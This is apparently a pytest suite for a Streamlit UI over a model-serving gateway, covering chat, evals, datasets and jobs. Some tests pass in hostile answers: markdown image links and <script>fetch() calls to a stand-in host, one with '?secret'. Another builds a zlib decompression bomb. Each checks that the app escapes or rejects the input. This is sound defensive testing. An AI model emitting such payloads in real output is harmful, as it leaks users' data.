"""The pages over a real gateway and control, with something in them."""

import base64
import json
import re
import shlex
import zlib

import pytest
from streamlit.commands.page_config import _get_favicon_string
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Button

from tests.ui.page import PAGES, opened, words
from tests.ui.ui_server import EARLY, ECHO, ENDLESS, MODEL, THINK, UiServer
from tests.unit.control.checkpoint_files import write_checkpoint
from ui.__main__ import APP
from ui.conversation import Conversation
from ui.harmless import as_markdown, cut, harmless
from ui.icon import ICON
from ui.token_colours import as_html


@pytest.fixture(autouse=True)
def _filled_server(filled_server: UiServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_URL", filled_server.url)


def _button(page: AppTest, label: str) -> Button:
    return next(button for button in page.button if button.label == label)


@pytest.mark.parametrize("name", PAGES)
def test_every_page_shows_without_an_error(name: str) -> None:
    page = opened(name)
    assert not page.exception
    assert not page.error, words(page)
    assert page.title[0].value.lower() == name


def test_overview_tells_what_serves_since_when_and_what_its_switch_cost() -> None:
    seen = words(opened("overview"))
    assert re.search(
        rf"\*\*{MODEL}\*\* serves since 20\d\d-.* UTC \(.*\)\. Its switch paused requests for \d+ ms;", seen
    )
    assert re.search(r"its proof \(\w+\) passed", seen)
    assert "Requests waiting: 0" in seen
    assert "No job runs or waits." in seen


def test_every_page_names_what_serves() -> None:
    for name in ("jobs", "playground"):
        assert f":green[●] **{MODEL}** serves" in words(opened(name))


def test_a_chat_is_streamed_with_its_times() -> None:
    page = opened("playground")
    page.chat_input[0].set_value("What is 17+25?").run()
    seen = words(page)
    assert "42" in [element.value for element in page.text]
    assert "2 tokens · " in seen
    assert f"{MODEL} · " in seen
    page.chat_input[0].set_value("What is 1+1?").run()
    assert "42" in [element.value for element in page.text], "what was said stays"


@pytest.mark.parametrize(
    "said",
    [
        "![x](http://192.0.2.1/?secret)",
        "between $5 and $6, :red[so] :smile: -> **and** `x`",
        "<img src=http://192.0.2.1/><script>fetch('http://192.0.2.1/')</script>",
    ],
)
def test_an_answer_is_shown_as_it_is(said: str) -> None:
    page = opened("playground")
    page.chat_input[0].set_value(f"{ECHO}{said}").run()
    assert [element.value for element in page.text] == [f"{ECHO}{said}", said]
    assert not any("192.0.2.1" in element.value or "red[so]" in element.value for element in page.markdown)


@pytest.mark.parametrize(
    "said",
    [
        "![x](http://192.0.2.1/?secret)",
        "a `` ` ![x](http://192.0.2.1/)",
        "<div>\n```\n\n![x][y]\n\n```\n\n[y]: http://192.0.2.1/",
        "<img src=http://192.0.2.1/><script>fetch('http://192.0.2.1/')</script>![x](//192.0.2.1/)",
        "![x](http://192.0.2.1/):red[so]:smile::material/home:",
    ],
)
def test_a_hostile_answer_as_markdown_fetches_nothing(said: str) -> None:
    """An image is fetched when it is drawn; nothing of an answer may be sent away by that."""
    page = opened("playground")
    page.toggle(key="playground_markdown").set_value(True).run()
    page.chat_input[0].set_value(f"{ECHO}{said}").run()
    drawn = [element for element in page.markdown if "192.0.2.1" in element.value]
    assert len(drawn) == 2  # the question and the answer
    assert all("![" not in element.value and not element.proto.allow_html for element in drawn)
    assert not any(re.search(r"(?<!\\):(red\[|smile:|material/)", element.value) for element in drawn)


def test_what_was_said_can_be_drawn_otherwise_afterwards() -> None:
    page = opened("playground")
    page.chat_input[0].set_value(f"{ECHO}**loud**").run()
    assert "**loud**" in [element.value for element in page.text]
    page.toggle(key="playground_markdown").set_value(True).run()
    assert "**loud**" in [element.value for element in page.markdown]
    assert not page.text


def test_code_with_brackets_is_left_alone_and_megabytes_are_cut() -> None:
    code = "let a = vec![1, 2]; let b: u8 = c[1:2];"
    assert as_markdown(code) == code
    assert harmless("costs $5 or $6") == "costs \\$5 or \\$6"
    assert cut("x" * 3_000_000).endswith("\n\n… 2,900,000 more characters are not shown.")
    assert len(as_markdown("x" * 3_000_000)) < 101_000


def test_the_icon_is_shipped() -> None:
    """One of Streamlit's own names for icons a browser asks another host for."""
    assert _get_favicon_string(ICON).startswith("data:image/svg+xml;base64,")
    assert "page_icon=ICON" in APP.read_text()


def test_several_models_answer_side_by_side_and_go_on_from_their_own_answers() -> None:
    page = opened("playground", models=f"active,{EARLY},{MODEL}")
    assert page.multiselect[0].value == ["active", EARLY, MODEL]
    page.chat_input[0].set_value("What is 10+11?").run()
    said = [element.value for element in page.text]
    assert (said.count("21"), said.count("22")) == (2, 1)
    asked = [json.loads(_body_of(code.value)) for code in page.code if code.value.startswith("curl ")]
    assert [one["model"] for one in asked] == ["active", EARLY, MODEL]
    page.chat_input[0].set_value("What is 1+1?").run()
    asked = [json.loads(_body_of(code.value)) for code in page.code if code.value.startswith("curl ")]
    assert [one["messages"][1]["content"] for one in asked] == ["21", "22", "21"]


def _body_of(curl: str) -> str:
    return shlex.split(curl.replace("\\\n", " "))[-1]


def test_thoughts_are_folded_and_tokens_are_coloured_by_how_likely_they_were() -> None:
    page = opened("playground")
    page.toggle(key="playground_logprobs").set_value(True).run()
    page.chat_input[0].set_value(f"{THINK}What is 17+25?").run()
    assert "Hm." in [text.value for text in next(one for one in page.expander if one.label == "Thinking").text]
    (drawn,) = [one.proto.body for one in page.get("html")]
    assert re.findall(r'background:#(\w+);[^>]*title="([\d.]+) %">(\d)<', drawn) == [
        ("d6f5d6", "99.0", "4"),
        ("ffc9c9", "5.0", "2"),
    ]


def test_tokens_are_escaped() -> None:
    drawn = as_html([("<img src=http://192.0.2.1/>", -0.1), ('"><script>', -9.0)])
    assert "<img" not in drawn
    assert "<script" not in drawn
    assert "&lt;img src=http://192.0.2.1/&gt;" in drawn


def test_a_tool_that_would_be_called_is_shown_and_what_is_not_json_is_named() -> None:
    page = opened("playground")
    page.text_area(key="playground_tools").set_value("[").run()
    assert page.warning[0].value.startswith("The tools are not valid JSON: ")
    tool = {"type": "function", "function": {"name": "add", "parameters": {"type": "object"}}}
    page.text_area(key="playground_tools").set_value(json.dumps([tool])).run()
    page.chat_input[0].set_value("What is 1+1?").run()
    assert 'add({"a": 1})' in [code.value for code in page.code]


def test_a_conversation_is_a_link_and_commands_that_ask_it_again(filled_server: UiServer) -> None:
    page = opened("playground", models=EARLY)
    page.slider(key="playground_temperature").set_value(0.0)
    schema = {"type": "object", "properties": {"sum": {"type": "integer"}}}
    page.text_area(key="playground_schema").set_value(json.dumps(schema))
    page.text_area(key="playground_system").set_value("Add.").run()
    page.chat_input[0].set_value("What is 10+11?").run()
    link = next(code.value for code in page.code if "?conversation=" in code.value)
    other = opened("playground", conversation=link.partition("?conversation=")[2])
    assert [element.value for element in other.text] == ["What is 10+11?", "22"]
    assert other.multiselect[0].value == [EARLY]
    assert other.text_area(key="playground_system").value == "Add."
    curl = next(code.value for code in other.code if code.value.startswith("curl "))
    assert '"max_tokens": 256' in curl
    assert "256.0" not in curl
    body = json.loads(_body_of(curl))
    assert (body["temperature"], body["response_format"]["json_schema"]["schema"]) == (0.0, schema)
    assert body["messages"] == [{"role": "system", "content": "Add."}, {"role": "user", "content": "What is 10+11?"}]
    answer = filled_server.http.post("/v1/chat/completions", json=body).json()
    assert answer["choices"][0]["message"]["content"] == "22"
    python = next(code.value for code in other.code if code.value.startswith("import os"))
    compile(python, "python", "exec")


@pytest.mark.parametrize("text", ["", "!!!", "eJw", "x" * 50])
def test_an_address_that_holds_no_conversation_says_so(text: str) -> None:
    assert Conversation.of_link(text) is None


def test_a_link_that_would_unpack_to_megabytes_is_none() -> None:
    bomb = zlib.compress(b'{"models": ["' + b"x" * 50_000_000 + b'"]}')
    assert Conversation.of_link(base64.urlsafe_b64encode(bomb).decode()) is None


def test_an_answer_is_set_apart_from_its_solution() -> None:
    page = opened("solve")
    page.text_area[0].set_value("What is 17+25?")
    page.button[0].click().run()
    assert not page.error, words(page)
    assert not page.success, "the server knows what was said, and not whether it is right"
    assert "Extracted answer, not checked" in [element.value for element in page.caption]
    assert "42" in [element.value for element in (*page.code, *page.text)]


def test_a_model_that_is_not_there_is_refused_in_words() -> None:
    page = opened("models")
    page.text_input(key="models_register_id").set_value("nowhere")
    _button(page, "Register").click().run()
    assert "nowhere" in page.error[0].value


def test_a_model_without_a_chat_template_is_warned_of_and_can_be_given_one(filled_server: UiServer) -> None:
    filled_server.register("bare", 7)
    page = opened("models")
    assert any("has no chat template, so chat routes refuse it" in warning.value for warning in page.warning)
    write_checkpoint(filled_server.settings.layout.models / "chatting", 8)
    page.text_input(key="models_register_id").set_value("chatting")
    page.text_area(key="models_register_template").set_value("chatml")
    _button(page, "Register").click().run()
    assert "chatting is registered" in page.success[0].value
    models = {model["id"]: model for model in filled_server.http.get("/models").json()["models"]}
    assert (models["bare"]["chat_template"], models["chatting"]["chat_template"]) == (None, "registered")


def test_compare_begins_with_a_sentence_and_shows_what_was_fixed_with_both_answers() -> None:
    page = opened("evals", tab="Compare")
    seen = words(page)
    assert page.header[0].value.startswith(f"{MODEL} is better than {EARLY}: +50.0 points (")
    assert page.header[0].value.endswith("), 6 fixed, 0 broken, p = 0.031.")
    assert "Fixed: 6" in seen
    assert "Broken: 0" in seen
    answers = [element.value for element in page.code]
    assert "✗ 22" in answers
    assert "✓ 21" in answers


def test_samples_come_wrong_ones_first_and_can_be_searched(filled_server: UiServer) -> None:
    page = opened("evals", tab="Samples")
    job = next(
        job["id"] for job in filled_server.http.get("/jobs?type=eval").json()["jobs"] if job["model_id"] == EARLY
    )
    page.selectbox(key="eval_eval").select(job).run()
    assert "1 to 10 of 12" in words(page)
    page.text_input(key="samples_text").set_value("What is 21+22?").run()
    assert "1 to 1 of 1" in words(page)


def _eval_of(filled_server: UiServer, model_id: str) -> str:
    """Its first one."""
    jobs = filled_server.http.get("/jobs?type=eval&status=done").json()["jobs"]
    return str(next(job["id"] for job in reversed(jobs) if job["model_id"] == model_id))


def test_samples_are_chosen_by_what_changed_and_become_a_dataset(filled_server: UiServer) -> None:
    late, early = _eval_of(filled_server, MODEL), _eval_of(filled_server, EARLY)
    page = opened("evals", tab="Samples", eval=late, since=early, samples_changed="true")
    assert "1 to 6 of 6" in words(page)
    assert "(was wrong)" in words(page)
    page.text_input(key="samples_dataset_name").set_value("changed")
    _button(page, "Make the dataset").click().run()
    assert "changed.jsonl is there, with 6 questions." in page.success[0].value
    assert filled_server.http.get("/datasets/changed.jsonl").json()["samples"] == 6
    body = {"model_id": EARLY, "name": "again", "dataset_ref": "changed.jsonl", "when_inactive": "switch"}
    job = filled_server.done("/eval/jobs", body)
    filled_server.activate(MODEL)
    assert filled_server.http.get(f"/jobs/{job}").json()["result"]["accuracy"] == 0.0, (
        "they are those that early got wrong"
    )


def test_samples_are_chosen_by_length_ending_and_score(filled_server: UiServer) -> None:
    page = opened("evals", tab="Samples", eval=_eval_of(filled_server, EARLY))
    page.number_input(key="samples_least").set_value(3).run()
    assert "No sample fits." in words(page)
    page.number_input(key="samples_least").set_value(2).run()
    page.selectbox(key="samples_ended").select("stop").run()
    assert "1 to 10 of 12" in words(page)
    metric = page.selectbox(key="samples_metric")
    metric.select(metric.options[-1]).run()
    page.slider(key="samples_score").set_range(0.0, 0.5).run()
    assert "1 to 6 of 6" in words(page)


def test_an_eval_is_started_from_the_page(filled_server: UiServer) -> None:
    before = len(filled_server.http.get("/jobs?type=eval").json()["jobs"])
    page = opened("evals", tab="Start one")
    _button(page, "Start").click().run()
    assert any("is pending" in element.value for element in page.success), words(page)
    assert len(filled_server.http.get("/jobs?type=eval").json()["jobs"]) == before + 1


def test_a_dataset_is_removed_once_it_is_chosen(filled_server: UiServer) -> None:
    filled_server.http.put("/datasets/spare.jsonl", content=b'{"question": "q", "answer": "a"}\n').raise_for_status()
    page = opened("evals", tab="Start one")
    assert page.selectbox(key="evals_removed").value is None
    page.selectbox(key="evals_removed").select("spare.jsonl")
    _button(page, "Remove for good").click().run()
    assert any("spare.jsonl is removed" in element.value for element in page.success), words(page)
    assert filled_server.http.get("/datasets/spare.jsonl").status_code == 404


def test_data_shows_what_was_accepted_and_examples() -> None:
    page = opened("data")
    assert "Accepted: 3" in words(page)
    next(toggle for toggle in page.toggle if toggle.label == "Read").set_value(True).run()
    assert "user: What is 41+71?" in words(page)


def test_a_job_is_cancelled_and_retried(filled_server: UiServer) -> None:
    line = json.dumps({"question": ENDLESS, "answer": "7"})
    filled_server.http.put("/datasets/endless.jsonl", content=line.encode()).raise_for_status()
    body = {"model_id": MODEL, "name": "endless", "dataset_ref": "endless.jsonl"}
    job = filled_server.http.post("/eval/jobs", json=body).json()["job_id"]
    page = opened("jobs")
    page.button(key=f"cancel_{job}").click().run()
    assert filled_server.http.get(f"/jobs/{job}").json()["status"] == "cancelled"
    page.run()
    page.button(key=f"retry_{job}").click().run()
    assert filled_server.http.get(f"/jobs/{job}").json()["status"] != "cancelled"
    filled_server.http.post(f"/jobs/{job}/cancel")
